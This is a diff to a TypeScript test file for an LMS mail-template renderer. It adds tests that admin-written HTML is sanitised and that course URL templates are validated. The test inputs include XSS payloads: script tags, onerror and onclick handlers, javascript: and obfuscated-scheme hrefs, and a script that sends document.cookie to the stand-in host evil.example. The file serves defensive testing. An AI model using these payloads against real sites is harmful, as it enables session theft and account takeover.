@@ -6,9 +6,12 @@ import {
   fillPlaceholders,
   placeholderValues,
   renderMessage,
+  sanitizeAdminHtml,
   sanitizeSubject,
+  unknownPlaceholders,
   type TemplateContext,
 } from '../activities/mail/templates.ts';
+import { courseUrlTemplateFromEnv, loadConfig } from '../config/env.ts';
 import { formatInstant } from '../domain/instant-format.ts';
 
 const ctx = (over: Partial<TemplateContext> = {}): TemplateContext => ({
@@ -76,7 +79,8 @@ test('a learner name with <script> is escaped in the body and kept as text in th
   const enrollment = renderMessage('course_enrollment', evil, { subject: 'Hi {{learner.name}}', body: '<p>Dear {{learner.name}}</p>' });
   assert.ok(enrollment);
   assert.ok(!enrollment.html.includes('<script>'), 'no raw script tag in the body');
-  assert.ok(enrollment.html.includes('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;'));
+  // The sanitiser writes text quotes as they are (only markup-significant < > & need escaping in text).
+  assert.ok(enrollment.html.includes('<p>Dear &lt;script&gt;alert("x")&lt;/script&gt;</p>'), enrollment.html);
   assert.equal(enrollment.subject, 'Hi <script>alert("x")</script>');
   const expiring = renderMessage('certificate_expiring', evil);
   assert.ok(expiring && !expiring.html.includes('<script>') && expiring.html.includes('&lt;script&gt;'));
@@ -154,7 +158,119 @@ test('subjects lose CR/LF (no header injection)', () => {
   assert.ok(r && !/[\r\n]/.test(r.subject));
 });
 
-test('admin bodies with markup are kept as markup; plain text is escaped', () => {
+test('admin bodies with allowed markup are kept as markup; plain text is escaped', () => {
   assert.equal(adminBodyToHtml('<p>Hi <b>there</b></p>'), '<p>Hi <b>there</b></p>');
   assert.equal(adminBodyToHtml('Terms & conditions\nline 2\n\nnext'), '<p>Terms &amp; conditions<br>line 2</p>\n<p>next</p>');
+});
+
+// ---------------------------------------------------------------------------------------------
+// Issue 17 §10: what admins write is sanitised at render time.
+
+test('an admin body loses script, style, iframe and their content', () => {
+  const html = adminBodyToHtml('<p>Hi</p><script>alert(1)</script><style>p{color:red}</style><iframe src="https://evil.example"></iframe><noscript>x</noscript>');
+  assert.equal(html, '<p>Hi</p>');
+});
+
+test('an admin body loses on* handlers, style attributes and unknown elements (keeping their text)', () => {
+  assert.equal(
+    adminBodyToHtml('<p onclick="steal()" style="color:red" class="x">Hi <img src=x onerror="alert(1)"><span onmouseover="y()">there</span></p>'),
+    '<p>Hi there</p>',
+  );
+});
+
+test('links keep http, https and mailto hrefs, get rel="noopener", and lose any other scheme', () => {
+  assert.equal(adminBodyToHtml('<a href="https://a.example/x?q=1" target="_blank" rel="opener">a</a>'), '<a href="https://a.example/x?q=1" rel="noopener">a</a>');
+  assert.equal(adminBodyToHtml('<a href="http://a.example">a</a>'), '<a href="http://a.example" rel="noopener">a</a>');
+  assert.equal(adminBodyToHtml('<a href="mailto:help@example.com">a</a>'), '<a href="mailto:help@example.com" rel="noopener">a</a>');
+  for (const bad of ['javascript:alert(1)', 'JavaScript:alert(1)', ' javascript:alert(1)', 'java&#115;cript:alert(1)', 'data:text/html,<b>x</b>', 'vbscript:x', '//evil.example/x', '/relative']) {
+    const html = adminBodyToHtml(`<a href="${bad}">a</a>`);
+    assert.equal(html, '<a rel="noopener">a</a>', `${bad} → ${html}`);
+  }
+});
+
+test('paragraphs, line breaks, headings, lists and emphasis are kept', () => {
+  const body = '<h1>T</h1><h2>S</h2><h3>s</h3><p>a<br />b</p><ul><li><strong>x</strong></li></ul><ol><li><em>y</em> <b>z</b> <i>w</i></li></ol>';
+  assert.equal(adminBodyToHtml(body), body);
+});
+
+test('a course enrollment message stored with a script is sent without it (sanitised at render time)', () => {
+  const r = renderMessage('course_enrollment', ctx(), {
+    subject: 'Welcome',
+    body: '<p>Start <a href="{{course.url}}" onclick="x()">here</a></p><script>fetch("https://evil.example/?c="+document.cookie)</script><a href="javascript:alert(1)">click</a>',
+  });
+  assert.ok(r);
+  assert.ok(!r.html.includes('<script'), r.html);
+  assert.ok(!r.html.includes('evil.example'), r.html);
+  assert.ok(!r.html.includes('javascript:'), r.html);
+  assert.ok(!r.html.includes('onclick'), r.html);
+  assert.ok(r.html.includes('<a href="https://lms.example.com/courses/11111111-2222-3333-4444-555555555555" rel="noopener">here</a>'), r.html);
+});
+
+test('a placeholder value cannot make a link unsafe', () => {
+  const r = renderMessage('course_enrollment', ctx({ learner: { name: 'javascript:alert(1)', email: 'e@example.com' } }), {
+    subject: 'Welcome',
+    body: '<p><a href="{{learner.name}}">me</a></p>',
+  });
+  assert.ok(r);
+  assert.ok(!r.html.includes('href="javascript:'), r.html);
+  assert.ok(r.html.includes('<a rel="noopener">me</a>'), r.html);
+});
+
+test('sanitizeAdminHtml escapes text left over as text', () => {
+  assert.equal(sanitizeAdminHtml('<p>a < b & "c"</p>'), '<p>a &lt; b &amp; "c"</p>');
+});
+
+test('unknownPlaceholders names each unknown placeholder once, in order; known ones are not named', () => {
+  assert.deepEqual(unknownPlaceholders('{{learner.name}} {{ course.link }} {{learner.nmae}} {{course.link}} {{course.url}}'), ['course.link', 'learner.nmae']);
+  assert.deepEqual(unknownPlaceholders('Hi {{learner.name}}, {{ expiresAt }}'), []);
+});
+
+// ---------------------------------------------------------------------------------------------
+// Issue 17 §15: {{course.url}} is where the learner takes the course.
+
+const COURSE_ID = '11111111-2222-3333-4444-555555555555';
+
+test('a course with a url: the expiring notice links the url', () => {
+  const r = renderMessage('certificate_expiring', ctx({
+    course: { id: COURSE_ID, title: 'Forklift Refresher', url: 'https://learn.acme.example/c/forklift?x=1&y=2' },
+    courseUrlTemplate: 'https://lms.other.example/courses/{courseId}',
+  }));
+  assert.ok(r);
+  assert.ok(r.html.includes('<a href="https://learn.acme.example/c/forklift?x=1&amp;y=2">Start the course</a>'), r.html);
+  assert.ok(!r.html.includes('/courses/'), r.html);
+});
+
+test('a course without a url: the expiring notice links the COURSE_URL_TEMPLATE pattern with the id', () => {
+  const r = renderMessage('certificate_expiring', ctx({
+    course: { id: COURSE_ID, title: 'Forklift Refresher', url: null },
+    courseUrlTemplate: 'https://lms.other.example/courses/{courseId}/start',
+  }));
+  assert.ok(r);
+  assert.ok(r.html.includes(`<a href="https://lms.other.example/courses/${COURSE_ID}/start">Start the course</a>`), r.html);
+});
+
+test('the url is used in every message kind that links the course', () => {
+  const url = 'https://learn.acme.example/c/forklift';
+  const c = ctx({ course: { id: COURSE_ID, title: 'Forklift Refresher', url } });
+  for (const kind of ['certificate_expiring', 'recertification_reminder', 'certificate_expired', 'recertification_enrollment'] as const) {
+    const r = renderMessage(kind, c);
+    assert.ok(r?.html.includes(`href="${url}"`), `${kind}: ${r?.html}`);
+  }
+  const enrollment = renderMessage('course_enrollment', c, { subject: 's', body: 'Go to {{course.url}}' });
+  assert.ok(enrollment?.html.includes(`Go to ${url}`), enrollment?.html);
+});
+
+test('no pattern configured: the link is today\'s <appBaseUrl>/courses/<id>', () => {
+  const r = renderMessage('certificate_expiring', ctx({ course: { id: COURSE_ID, title: 'Forklift Refresher' } }));
+  assert.ok(r?.html.includes(`<a href="https://lms.example.com/courses/${COURSE_ID}">Start the course</a>`), r?.html);
+});
+
+test('COURSE_URL_TEMPLATE: default from APP_BASE_URL; http(s) with {courseId} only', () => {
+  assert.equal(loadConfig({}).courseUrlTemplate, 'http://localhost:3000/courses/{courseId}');
+  assert.equal(loadConfig({ APP_BASE_URL: 'https://app.example/' }).courseUrlTemplate, 'https://app.example/courses/{courseId}');
+  assert.equal(loadConfig({ COURSE_URL_TEMPLATE: 'https://lms.example.com/courses/{courseId}' }).courseUrlTemplate, 'https://lms.example.com/courses/{courseId}');
+  assert.throws(() => loadConfig({ COURSE_URL_TEMPLATE: 'https://lms.example.com/courses' }), /COURSE_URL_TEMPLATE: must contain \{courseId\}/);
+  assert.throws(() => loadConfig({ COURSE_URL_TEMPLATE: 'javascript:alert("{courseId}")' }), /COURSE_URL_TEMPLATE: must be an http or https URL/);
+  assert.equal(courseUrlTemplateFromEnv('https://app.example', { COURSE_URL_TEMPLATE: 'https://lms.example.com/c/{courseId}' }), 'https://lms.example.com/c/{courseId}');
+  assert.equal(courseUrlTemplateFromEnv('https://app.example/', {}), 'https://app.example/courses/{courseId}');
 });
